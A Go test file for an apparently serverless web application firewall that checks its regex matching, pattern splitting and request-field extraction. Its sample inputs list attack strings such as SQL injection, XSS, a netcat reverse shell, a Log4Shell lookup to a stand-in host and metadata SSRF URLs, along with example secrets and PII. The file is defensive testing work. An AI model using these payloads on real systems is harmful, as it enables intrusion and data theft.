package policy

import (
	"context"
	"encoding/json"
	"fmt"
	"io/fs"
	"regexp"
	"slices"
	"strings"
	"testing"

	"github.com/open-policy-agent/opa/v1/ast"
	"github.com/open-policy-agent/opa/v1/rego"
	"github.com/open-policy-agent/opa/v1/util"

	"github.com/lambda-firewall/lambda-firewall/rules"
)

// evalBinding evaluates a query with the custom builtins and returns the
// value bound to x.
func evalBinding(t *testing.T, query string) any {
	t.Helper()
	opts := append([]func(*rego.Rego){rego.Query(query)}, builtinRegoOptions(customBuiltins())...)
	rs, err := rego.New(opts...).Eval(context.Background())
	if err != nil {
		t.Fatalf("eval %s: %v", query, err)
	}
	if len(rs) != 1 {
		t.Fatalf("eval %s: got %d results", query, len(rs))
	}
	return rs[0].Bindings["x"]
}

func TestSplitTopLevel(t *testing.T) {
	tests := []struct {
		in   string
		want []string
	}{
		{`a|b`, []string{"a", "b"}},
		{`(a|b)|c`, []string{"(a|b)", "c"}},
		{`[|]|x`, []string{"[|]", "x"}},
		{`[]|]|x`, []string{"[]|]", "x"}},
		{`[^]|]|x`, []string{"[^]|]", "x"}},
		{`[[:alpha:]|]|x`, []string{"[[:alpha:]|]", "x"}},
		{`\||x`, []string{`\|`, "x"}},
		{`(?i)a|b`, []string{`(?i)a|b`}},
		{`(?i:a)|b`, []string{`(?i:a)`, "b"}},
		{`(?P<n>a)|b`, []string{`(?P<n>a)`, "b"}},
		{`\Qa|b\E`, []string{`\Qa|b\E`}},
		{`a|`, []string{"a", ""}},
	}
	for _, tt := range tests {
		if got := splitTopLevel(tt.in); !slices.Equal(got, tt.want) {
			t.Errorf("splitTopLevel(%q) = %q, want %q", tt.in, got, tt.want)
		}
	}
}

func TestRequiredLiterals(t *testing.T) {
	tests := []struct {
		in   string
		want [][]string
	}{
		{`union\s+select`, [][]string{{"\t", "\n", "\f", "\r", " "}, {"select"}, {"union"}}},
		{`\b(sleep|benchmark)\s*\(`, [][]string{{"benchmark", "sleep"}, {"("}}},
		{`a.*`, [][]string{{"a"}}},
		{`.*`, nil},
		{`(?i)union`, nil},
		{`x?y`, [][]string{{"y", "xy"}}},
		{`(ab)+`, [][]string{{"ab"}}},
		{`a{0,3}`, nil},
		// A repeat needs Min copies of its literals in a row.
		{`\.{2}`, [][]string{{".."}}},
		{`\.{2,3}[\\/]`, [][]string{{".."}, {"/", "\\"}}},
		// Optional prefixes overflow the product; the run after them stays tight.
		{`["']?(/usr|/bin|/sbin|/usr/local)?(/s?bin/)?n(c|cat|etcat)\s`, [][]string{product([]string{"nc", "ncat", "netcat"}, []string{"\t", "\n", "\f", "\r", " "})}},
	}
	for _, tt := range tests {
		re, err := syntaxParse(tt.in)
		if err != nil {
			t.Fatal(err)
		}
		got := requiredLiterals(re)
		for _, set := range got {
			slices.Sort(set)
		}
		for _, set := range tt.want {
			slices.Sort(set)
		}
		slices.SortFunc(got, func(a, b []string) int { return strings.Compare(strings.Join(a, ","), strings.Join(b, ",")) })
		slices.SortFunc(tt.want, func(a, b []string) int { return strings.Compare(strings.Join(a, ","), strings.Join(b, ",")) })
		if fmt.Sprint(got) != fmt.Sprint(tt.want) {
			t.Errorf("requiredLiterals(%q) = %q, want %q", tt.in, got, tt.want)
		}
	}
}

func TestDistribute(t *testing.T) {
	// words are alternatives enough for a program the backtracker leaves
	// to the NFA (over 500 instructions); split(p, s) the branches expected
	// of p + "(" + words + ")" + s.
	var words []string
	for i := range 120 {
		// Six letters, spread so that the parser's factoring of common
		// prefixes leaves the alternation large.
		w := make([]byte, 6)
		for j := range w {
			w[j] = byte('a' + (i*(7+4*j)+j*j+i/26)%26)
		}
		words = append(words, string(w))
	}
	group := strings.Join(words, "|")
	split := func(p, open, s string) []string {
		var out []string
		for _, w := range words {
			out = append(out, p+open+w+")"+s)
		}
		return out
	}
	tests := []struct {
		name, in string
		want     []string
	}{
		{"split", `\b(` + group + `)\s*\(`, split(`\b`, "(", `\s*\(`)},
		{"the larger group, non-capturing kept", `(x|y)(?:` + group + `)z`, split(`(x|y)`, "(?:", `z`)},
		// An alternative without a literal of its own still splits when the
		// rest of the branch has one (x)...
		{"alternative without literals", `(` + group + `|.*)x`, append(split("", "(", "x"), `(.*)x`)},
		// ...and keeps the branch whole when nothing else has: it would run
		// on every string.
		{"nothing else has literals", `(` + group + `|.*)`, []string{`(` + group + `|.*)`}},
		{"quick enough for the backtracker", `\b(one|two|six|ten|red|tan|map|set)x`, []string{`\b(one|two|six|ten|red|tan|map|set)x`}},
		// A small alternation with weak (one- or two-letter) alternatives
		// splits them out, so that only their branches run on ordinary text;
		// the others stay together.
		{"weak alternatives", `;\s*(cat|tac|nl|more|w|less|head|tail|find)\s`, []string{`;\s*(nl)\s`, `;\s*(w)\s`,
			`;\s*(cat|tac|more|less|head|tail|find)\s`}},
		{"all weak", `;\s*(a|b|c|d|e|f|g|h)\s`, []string{`;\s*(a|b|c|d|e|f|g|h)\s`}},
		{"too few alternatives", `\b(` + strings.Join(words[:7], "|") + `)x` + strings.Repeat(`[a-z]\d`, 200),
			[]string{`\b(` + strings.Join(words[:7], "|") + `)x` + strings.Repeat(`[a-z]\d`, 200)}},
		{"repeated group", `(` + group + `)+x`, []string{`(` + group + `)+x`}},
		{"flag group", `(?i:` + group + `)x`, []string{`(?i:` + group + `)x`}},
		{"nested group", `x((` + group + `))`, []string{`x((` + group + `))`}},
		// A flag group elsewhere: the branches are parsed whole, same result.
		{"flag group beside", `(?s:.)(` + group + `)`, split(`(?s:.)`, "(", "")},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			brs, err := splitPattern(tt.in)
			if err != nil {
				t.Fatal(err)
			}
			var got []string
			for _, b := range brs {
				got = append(got, b.re.src)
			}
			if !slices.Equal(got, tt.want) {
				t.Errorf("splitPattern(%.60q…) = %d branches %.120q…, want %d %.120q…", tt.in, len(got), got, len(tt.want), tt.want)
			}
			// The branches match what the pattern matches.
			whole := regexp.MustCompile(tt.in)
			for _, s := range []string{words[7] + " (", "x" + words[119] + "z", "y" + words[0] + "z", words[42] + "x", "a1x",
				"(" + words[3] + ")", "nothing", "\n" + words[1]} {
				any := slices.ContainsFunc(brs, func(b branch) bool { return b.re.MatchString(s) })
				if any != whole.MatchString(s) {
					t.Errorf("%q: branches %v, pattern %v", s, any, !any)
				}
			}
		})
	}
}

// bundlePatterns returns every raw string of the default bundle's Rego that
// compiles as a regular expression: the patterns the match builtin sees.
func bundlePatterns(t testing.TB) []string {
	t.Helper()
	var out []string
	err := fs.WalkDir(rules.Default, ".", func(path string, d fs.DirEntry, err error) error {
		if err != nil || d.IsDir() {
			return err
		}
		switch {
		case strings.HasSuffix(path, ".rego") && !strings.HasSuffix(path, "_test.rego"):
			src, err := fs.ReadFile(rules.Default, path)
			if err != nil {
				return err
			}
			for _, m := range regexp.MustCompile("`[^`]+`").FindAllString(string(src), -1) {
				p := strings.Trim(m, "`")
				if _, err := regexp.Compile(p); err == nil {
					out = append(out, p)
				}
			}
		case strings.HasSuffix(path, "data.yaml"):
			src, err := fs.ReadFile(rules.Default, path)
			if err != nil {
				return err
			}
			var doc any
			if err := util.Unmarshal(src, &doc); err != nil {
				return fmt.Errorf("%s: %w", path, err)
			}
			out = append(out, yamlPatterns(doc, "")...)
		}
		return nil
	})
	if err != nil || len(out) < 40 {
		t.Fatalf("bundle patterns: %d found, err %v", len(out), err)
	}
	return out
}

// yamlPatterns returns the regular expressions of a rule pack document: the
// values of pattern (string or list), unless, param and the gate's chars.
func yamlPatterns(v any, key string) []string {
	var out []string
	switch x := v.(type) {
	case map[string]any:
		for k, e := range x {
			out = append(out, yamlPatterns(e, k)...)
		}
	case []any:
		for _, e := range x {
			out = append(out, yamlPatterns(e, key)...)
		}
	case string:
		switch key {
		case "pattern", "unless", "param", "chars":
			out = append(out, x)
		}
	}
	return out
}

// matchSamples are strings that hit many branches of the default patterns.
var matchSamples = []string{
	"", "hello world", "1' or '1'='1", "x' union select password from users--", "1;select pg_sleep(5)",
	"<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "jav&#x09;ascript:alert(1)", "\uff1cscript\uff1e",
	"127.0.0.1; cat /etc/passwd", "bash -c 'id'", "$(whoami)", "/etc/pa[s]swd", "() { :; }; /bin/sh -c id",
	"powershell -enc aaaa", "if %errorlevel% neq 0 echo test", "../../../etc/passwd", "/proc/self/environ",
	"http://169.254.169.254/latest/meta-data/", "gopher://127.0.0.1:6379/_info", "http://localhost:8080/admin",
	"${jndi:ldap://evil.example/a}", "${${lower:j}ndi:${lower:l}dap://x/a}", "java.lang.runtime", "ro0abxnyabfqyxzh",
	"%{(#_memberaccess['allowstaticmethodaccess']=true)}", "php://filter/convert.base64-encode/resource=index.php",
	"system('id')", "$_server['http_host']", `o:8:"stdclass":0:{}`, "require('child_process').exec('id')",
	"__proto__", "constructor.prototype", "sqlmap/1.8#stable", "document.cookie=\"sid=1; domain=.example\"",
	"4111 1111 1111 1111", "liam@example.com", "+41 44 668 18 00", "AKIAIOSFODNN7EXAMPLE", "Bearer abcdefghijklmnopqrstuvwxyz123456",
	"GB82 WEST 1234 5698 7654 32", "123-45-6789", "aws_secret = wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY",
	"please gift wrap; leave at the back door.", "mozilla/5.0 (x11; linux x86_64; rv:132.0)", "/.git/config",
	"select name from users", "char(65,66)", "alert (1)", "a\nb", "\x00", "ѐ⌘ unicode ✓",
	// Branches split out of large alternations (php-002, rce-001): the
	// common Chrome user agent holds "chr", a command after a separator.
	"Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0 Safari/537.36",
	"chr(97).chr(98)", "x=1;nc -e /bin/sh 10.0.0.1 4444", "a | /usr/bin/ncat 10.0.0.1", "gzinflate (base64_decode('eJ'))",
	"..;/admin", "x/..\\y", "time ls -la", "&& python3 -c 'print(1)'",
}

// TestMatcherEquivalence checks that the split and pre-filtered matcher of
// every bundle pattern agrees with plain regexp matching.
func TestMatcherEquivalence(t *testing.T) {
	for _, p := range bundlePatterns(t) {
		ms, err := compileMatcherSet(ast.NewObject(ast.Item(ast.StringTerm("r"), ast.StringTerm(p))))
		if err != nil {
			t.Fatalf("%q: %v", p, err)
		}
		re := regexp.MustCompile(p)
		for _, s := range matchSamples {
			for _, v := range []string{s, Normalize(s), strings.Repeat(s, 3)} {
				if got, want := ms.matchAny(v), re.MatchString(v); got != want {
					t.Errorf("pattern %q on %q: matcher %v, regexp %v", p, v, got, want)
				}
			}
		}
	}
}

func FuzzMatcher(f *testing.F) {
	patterns := bundlePatterns(f)
	sets := make([]*matcherSet, len(patterns))
	for i, p := range patterns {
		ms, err := compileMatcherSet(ast.NewObject(ast.Item(ast.StringTerm("r"), ast.StringTerm(p))))
		if err != nil {
			f.Fatal(err)
		}
		sets[i] = ms
	}
	for i, s := range matchSamples {
		f.Add(uint(i), s)
	}
	f.Fuzz(func(t *testing.T, i uint, s string) {
		p := patterns[i%uint(len(patterns))]
		if got, want := sets[i%uint(len(patterns))].matchAny(s), regexp.MustCompile(p).MatchString(s); got != want {
			t.Errorf("pattern %q on %q: matcher %v, regexp %v", p, s, got, want)
		}
	})
}

func TestTargetsAndLocate(t *testing.T) {
	opts := `{"skip_headers": {"authorization"}, "gate": {"chars": "[<>;]", "words": ["union"], "prefixes": ["pg_"], "suffixes": ["select"]}}`
	httpInput := `{"phase": "event", "http": {"path": "/a", "query": {"q": ["x;y", ""], "Un": ["pg_sleep"]},
		"headers": {"authorization": "Bearer t", "user-agent": "ua", "cookie": "c=1"}, "cookies": ["c=1", "d = e=f"],
		"body_format": "json", "body_json": {"k": ["v", {"union": "w"}]}, "body": "{}"}}`
	got := evalBinding(t, fmt.Sprintf(`r := lambda_firewall.targets(%s, %s)
		all := sort([e.value | some e in r.all])
		gated := sort([e.value | some e in r.gated])
		keys := sort([e.value | some e in r.keys])
		x := [all, gated, keys, count(r.body), r.truncated]`, httpInput, opts))
	want := `[[" e=f","/a","1","Un","c","d","k","pg_sleep","q","ua","union","v","w","x;y"],["pg_sleep","union","x;y"],["Un","c","d","k","q","union"],0,false]`
	if b, _ := json.Marshal(got); string(b) != want {
		t.Errorf("targets:\n got %s\nwant %s", b, want)
	}

	got = evalBinding(t, fmt.Sprintf(`x := sort(lambda_firewall.locate(%s, %s, {"union", "d", "x;y"}))`, httpInput, opts))
	want = `[{"kind":"key","norm":"d","path":["http","cookies",1],"value":"d"},` +
		`{"kind":"key","norm":"union","path":["http","body_json","k",1,"union"],"value":"union"},` +
		`{"kind":"value","norm":"x;y","path":["http","query","q",0],"value":"x;y"}]`
	if b, _ := json.Marshal(got); string(b) != want {
		t.Errorf("locate:\n got %s\nwant %s", b, want)
	}
}

func TestTargetsPayload(t *testing.T) {
	sqs := `{"phase": "event", "source": "sqs", "payload": {"Records": [{"body": " {\"a\": \"<b>\"}"}, {"body": "{bad"}]}}`
	got := evalBinding(t, fmt.Sprintf(`x := sort(lambda_firewall.locate(%s, {}, {"<b>", "a", "{bad"}))`, sqs))
	want := `[{"kind":"key","norm":"a","path":["payload","Records",0,"body","a"],"value":"a"},` +
		`{"kind":"value","norm":"\u003cb\u003e","path":["payload","Records",0,"body","a"],"value":"\u003cb\u003e"},` +
		`{"kind":"value","norm":"{bad","path":["payload","Records",1,"body"],"value":"{bad"}]`
	if b, _ := json.Marshal(got); string(b) != want {
		t.Errorf("sqs:\n got %s\nwant %s", b, want)
	}
	// base64 of {"x": "<s>"} and of "plain text"
	kinesis := `{"phase": "event", "source": "kinesis", "payload": {"Records": [{"kinesis": {"data": "eyJ4IjogIjxzPiJ9"}}, {"kinesis": {"data": "cGxhaW4gdGV4dA=="}}]}}`
	got = evalBinding(t, fmt.Sprintf(`x := sort([[t.path, t.value] | some t in lambda_firewall.locate(%s, {}, {"<s>", "plain text"})])`, kinesis))
	want = `[[["payload","Records",0,"kinesis","data"],"\u003cs\u003e"],[["payload","Records",1,"kinesis","data"],"plain text"]]`
	if b, _ := json.Marshal(got); string(b) != want {
		t.Errorf("kinesis:\n got %s\nwant %s", b, want)
	}
	got = evalBinding(t, `x := lambda_firewall.targets({"http": {"path": "/abcdef", "query": {"q": ["zz"]}}}, {"max_bytes": 4})`)
	if b, _ := json.Marshal(got); !strings.Contains(string(b), `"truncated":true`) || !strings.Contains(string(b), `"value":"/abc"`) {
		t.Errorf("max_bytes: %s", b)
	}
}

func TestMatchBuiltin(t *testing.T) {
	got := evalBinding(t, `x := lambda_firewall.match(
		[{"value": "A", "norm": "1' or '1'='1"}, {"value": "rO0AB", "norm": "ro0ab"}, "plain", {"norm": 1}],
		{"re": "'\\s*or", "arr": ["nothing", "pla"], "val": {"pattern": "rO0", "field": "value"},
		 "sqli": {"detector": "sqli"}, "none": "zzz"})`)
	want := `{"arr":["plain"],"re":[{"norm":"1' or '1'='1","value":"A"}],"sqli":[{"norm":"1' or '1'='1","value":"A"}],"val":[{"norm":"ro0ab","value":"rO0AB"}]}`
	if b, _ := json.Marshal(got); string(b) != want {
		t.Errorf("match:\n got %s\nwant %s", b, want)
	}
	for _, bad := range []string{`{"a": "("}`, `{"a": {"detector": "nope"}}`, `{"a": {"field": "x", "pattern": "a"}}`, `{"a": 1}`, `{"a": {}}`} {
		if _, err := compileMatcherSet(ast.MustParseTerm(bad).Value); err == nil {
			t.Errorf("compileMatcherSet(%s): want an error", bad)
		}
	}
}

func TestStringsBuiltin(t *testing.T) {
	got := evalBinding(t, `x := lambda_firewall.strings({"a": ["v", "v", {"a": 1, "b": "w"}], "c": null})`)
	want := `{"keys":["a","b","c"],"values":["v","w"]}` // sets, sorted
	if b, _ := json.Marshal(got); string(b) != want {
		t.Errorf("strings:\n got %s\nwant %s", b, want)
	}
}

func TestMatchCacheBounded(t *testing.T) {
	var c matchCache
	builds := 0
	for i := range 3 * maxCacheEntries {
		key := ast.String(fmt.Sprint(i % (maxCacheEntries + 10)))
		if _, err := c.get(key, func() (any, error) { builds++; return i, nil }); err != nil {
			t.Fatal(err)
		}
		if c.size > maxCacheEntries {
			t.Fatalf("cache holds %d entries", c.size)
		}
	}
	v, _ := c.get(ast.String("x"), func() (any, error) { return "x", nil })
	w, _ := c.get(ast.String("x"), func() (any, error) { return "other", nil })
	if v != "x" || w != "x" || builds < maxCacheEntries {
		t.Errorf("cache: %v %v builds %d", v, w, builds)
	}
}

// TestClassRun checks the regexp-free matcher of class branches against the
// regexp, on the samples and the gate's own branches.
func TestClassRun(t *testing.T) {
	patterns := []string{`[<>;|]`, `\d{10}`, `\d+`, `[a-z]{3}`, `\d{3,5}`, `[\x{ff1c}\x00]`, `[^a-z]`, `\s`}
	seen := 0
	for _, p := range append(patterns, bundlePatterns(t)...) {
		for _, branch := range splitTopLevel(p) {
			re, err := syntaxParse(branch)
			if err != nil {
				continue
			}
			fast := classRun(re)
			if fast == nil {
				continue
			}
			seen++
			std := regexp.MustCompile(branch)
			for _, s := range append(matchSamples, "0123456789", "012345678", "a1234567890b", "\uff1c", "\xff\xfe", "abc", "ab") {
				if got, want := fast(s), std.MatchString(s); got != want {
					t.Errorf("classRun(%q) on %q = %v, regexp %v", branch, s, got, want)
				}
			}
		}
	}
	if seen < len(patterns) {
		t.Errorf("only %d class branches recognised", seen)
	}
}

// TestMatchCache checks the cache's identity fast path and its equality
// lookup: the same value and an equal one reuse the entry, another value
// builds its own.
func TestMatchCache(t *testing.T) {
	var c matchCache
	builds := 0
	get := func(v ast.Value) any {
		got, err := c.get(v, func() (any, error) { builds++; return new(int), nil })
		if err != nil {
			t.Fatal(err)
		}
		return got
	}
	a := ast.MustParseTerm(`{"x": 1}`).Value
	first := get(a)
	if get(a) != first || get(ast.MustParseTerm(`{"x": 1}`).Value) != first || builds != 1 {
		t.Fatalf("equal values built %d times", builds)
	}
	if get(ast.MustParseTerm(`{"x": 2}`).Value) == first || builds != 2 {
		t.Fatal("another value reused the entry")
	}
	if get(a) != first || builds != 2 {
		t.Fatal("the first value was built again")
	}
	if get(ast.String("s")) == nil || get(ast.String("s")) == nil || builds != 3 {
		t.Fatalf("a string key built %d times, want once more", builds)
	}
}
